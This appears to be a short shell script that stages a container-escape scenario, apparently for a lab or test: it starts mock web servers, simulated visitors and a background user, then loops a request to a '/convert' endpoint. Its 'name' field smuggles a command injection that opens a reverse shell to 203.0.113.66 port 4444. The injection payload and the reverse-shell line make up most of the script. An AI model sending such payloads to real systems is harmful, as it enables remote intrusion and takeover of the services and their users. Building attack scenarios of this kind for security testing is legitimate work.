# Who gets out of a container, and, beside him, whoever uses the application and a quiet user of the machine.
. ./client.sh
perl web.pl 203.0.113.9 80 www &
perl web.pl 203.0.113.10 80 www &
perl pool.pl &
visitors() { while [ ! -e shared/over ]; do curl -s -m 2 "http://198.51.100.20:8080/page?$RANDOM" > /dev/null; sleep 1.3; done; }
visitors &
quiet_user > /dev/null 2>&1 &
sleep 2
perl type.pl 203.0.113.66 4444 escape/typed > typed.log 2>&1 &
typing=$!
sleep 0.5
until curl -s -m 5 -o /dev/null -G --data-urlencode 'name=x; bash -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"' http://198.51.100.20:8080/convert; do sleep 0.3; done
wait $typing
touch shared/over
sleep 2
kill $(jobs -p) 2> /dev/null || true
